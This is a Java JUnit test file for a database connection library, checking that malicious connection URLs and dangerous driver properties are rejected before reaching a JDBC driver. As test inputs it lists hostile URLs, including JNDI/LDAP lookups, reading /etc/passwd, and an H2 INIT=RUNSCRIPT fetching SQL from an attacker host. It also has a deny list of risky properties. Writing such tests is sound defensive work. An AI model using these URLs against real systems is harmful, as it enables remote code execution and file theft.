package dev.cinnabar.it.connect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.cinnabar.connect.Engine;
import dev.cinnabar.connect.EngineBuilder;
import dev.cinnabar.error.ErrorCode;
import dev.cinnabar.error.UsageException;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** URLs that try to make a driver do more than connect. */
class HostileUrlTest {
    private static final List<String> PROPERTIES = List.of(
            "socketFactory",
            "socketFactoryArg",
            "sslfactory",
            "sslfactoryarg",
            "sslhostnameverifier",
            "sslpasswordcallback",
            "authenticationPluginClassName",
            "xmlFactoryFactory",
            "loggerFile",
            "loggerLevel",
            "options",
            "service",
            "jaasApplicationName",
            "sslkey",
            "sslcert",
            "localSocketAddress",
            "replication",
            "preferQueryMode",
            "autoDeserialize",
            "queryInterceptors",
            "statementInterceptors",
            "connectionLifecycleInterceptors",
            "exceptionInterceptors",
            "allowLoadLocalInfile",
            "allowLoadLocalInfileInPath",
            "allowUrlInLocalInfile",
            "allowMultiQueries",
            "sessionVariables",
            "socksProxyHost",
            "propertiesTransform",
            "serverRSAPublicKeyFile",
            "trustCertificateKeyStoreUrl",
            "clientCertificateKeyStoreUrl",
            "logger",
            "profilerEventHandler",
            "detectCustomCollations",
            "useAffectedRows",
            "allowPublicKeyRetrieval",
            "defaultAuthenticationPlugin",
            "authenticationPlugins",
            "disabledAuthenticationPlugins",
            "parseInfoCacheFactory",
            "serverConfigCacheFactory",
            "ldapServerHostname",
            "enable_load_extension",
            "open_mode",
            "vfs",
            "mode",
            "cache",
            "immutable",
            "nolock",
            "journal_mode",
            "foreign_keys",
            "hexkey_mode",
            "password_key",
            "cipher",
            "key",
            "INIT",
            "TRACE_LEVEL_FILE",
            "user",
            "password");

    private static final List<String> ADDRESSES = List.of(
            "sqlite:///:resource:http://evil.example/x.db",
            "sqlite:///:resource:x.db",
            "sqlite:///file:x.db?vfs=memdb",
            "sqlite:///file:x.db",
            "sqlite:///%00",
            "sqlite:///a%0ab",
            "sqlite:///folder/",
            "sqlite://host/x.db",
            "sqlite://user:pw@/x.db",
            "jdbc:sqlite::resource:jar:http://evil.example/x.jar!/x.db",
            "jdbc:mysql://address=(host=evil)(port=1)/d",
            "jdbc:mysql://(host=evil,port=1)/d",
            "jdbc:mysql:loadbalance://evil/d",
            "jdbc:mysql:replication://evil/d",
            "jdbc:mysql+srv://evil/d",
            "mysql://a,b/d",
            "mysql://evil:1:2/d",
            "mysql://ev%69l/d",
            "mysql://evil\\@good/d",
            "mysql://good#@evil/d#x y/%zz",
            "mysql+mariadb://h/d",
            "mysql+evil.Driver://h/d",
            "postgresql://a,b:5432/d",
            "postgresql://h:5432:5433/d",
            "postgresql://h:-1/d",
            "postgresql://h:99999/d",
            "postgresql://h:5432/d?sslmode=require&sslmode=disable",
            "postgresql+com.evil.Driver://h/d",
            "postgresql://[::1/d",
            "postgresql://h ost/d",
            "postgresql://h\tost/d",
            "jdbc:postgresql:d?socketFactory=x",
            "jdbc:jndi:ldap://evil.example/x",
            "ldap://evil.example/x",
            "rmi://evil.example/x",
            "file:///etc/passwd",
            "http://evil.example/");

    private static List<String> urls() {
        List<String> urls = new ArrayList<>(ADDRESSES);
        for (String property : PROPERTIES) {
            boolean loginIsWelcome = property.equals("user") || property.equals("password");
            urls.add("postgresql://h/d?" + property + "=x");
            urls.add("mysql://h/d?" + property + "=x");
            urls.add("sqlite:///x.db?" + property + "=x");
            if (!loginIsWelcome) {
                urls.add("jdbc:mysql://h/d?sslMode=REQUIRED&" + property + "=x");
            }
        }
        return urls;
    }

    @Test
    @Tag("SEC-15")
    void hostileUrls_reachNoDriver() {
        AtomicInteger reached = new AtomicInteger();
        List<String> let = new ArrayList<>();
        List<String> urls = urls();

        for (String url : urls) {
            Throwable refusal = catchThrowable(() -> {
                EngineBuilder builder = Engine.builder(url).connector((jdbcUrl, properties) -> {
                    reached.incrementAndGet();
                    throw new java.sql.SQLException("reached");
                });
                try (Engine engine = builder.build()) {
                    engine.connect();
                }
            });
            if (!(refusal instanceof UsageException)) {
                let.add(url);
            }
        }

        assertThat(urls).hasSizeGreaterThanOrEqualTo(150);
        assertThat(let).isEmpty();
        assertThat(reached).hasValue(0);
    }

    @Test
    void partOfAUrl_meansNothingToTheDriver_inADialectOfSomebodyElse() {
        List<String> seen = new ArrayList<>();
        try (Engine engine = Engine.builder("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'")
                .connector((jdbcUrl, properties) -> {
                    seen.add(jdbcUrl);
                    throw new java.sql.SQLException("enough");
                })
                .build()) {
            assertThat(catchThrowable(engine::connect)).isNotNull();
        }

        assertThat(seen).hasSize(1).noneMatch(jdbcUrl -> jdbcUrl.contains(";INIT"));
    }

    @Test
    void dangerousProperty_passes_whenItIsSetKnowingly() {
        List<String> seen = new ArrayList<>();
        try (Engine engine = Engine.builder("mysql://h/d")
                .unsafeProperty("allowLoadLocalInfile", "true")
                .connector((jdbcUrl, properties) -> {
                    seen.add(jdbcUrl + " " + properties.getProperty("allowLoadLocalInfile"));
                    throw new java.sql.SQLException("enough");
                })
                .build()) {
            var unused = catchThrowable(engine::connect);
        }

        assertThat(seen).containsExactly("jdbc:mysql://h:3306/d true");
    }

    @Test
    void missingDialect_namesTheSchemesThatAreKnown() {
        Throwable refusal = catchThrowable(() -> Engine.create("oracle://h/d"));

        assertThat(refusal)
                .isInstanceOfSatisfying(
                        UsageException.class, error -> assertThat(error.code()).isEqualTo(ErrorCode.UNKNOWN_SCHEME))
                .hasMessageContaining("oracle")
                .hasMessageContaining("postgresql");
    }

    @Test
    void knownScheme_namesTheArtifact_whenItsDialectIsMissing() {
        ClassLoader usual = Thread.currentThread().getContextClassLoader();
        Throwable refusal;
        try {
            Thread.currentThread().setContextClassLoader(ClassLoader.getPlatformClassLoader());
            refusal = catchThrowable(() -> Engine.create("postgresql://h/d"));
        } finally {
            Thread.currentThread().setContextClassLoader(usual);
        }

        assertThat(refusal)
                .isInstanceOfSatisfying(
                        UsageException.class, error -> assertThat(error.code()).isEqualTo(ErrorCode.MISSING_DIALECT))
                .hasMessageContaining("add the artifact dev.cinnabar:cinnabar-dialect-postgres");
    }

    @Test
    void mariadb_isSaidNotToBeSupported() {
        Throwable refusal = catchThrowable(() -> Engine.create("mariadb://h/d"));

        assertThat(refusal)
                .isInstanceOfSatisfying(
                        UsageException.class, error -> assertThat(error.code()).isEqualTo(ErrorCode.UNKNOWN_SCHEME))
                .hasMessageContaining("MariaDB is not supported")
                .hasMessageContaining("use one of [")
                .hasMessageNotContaining("add the artifact")
                .hasMessageNotContaining("[mariadb");
    }
}
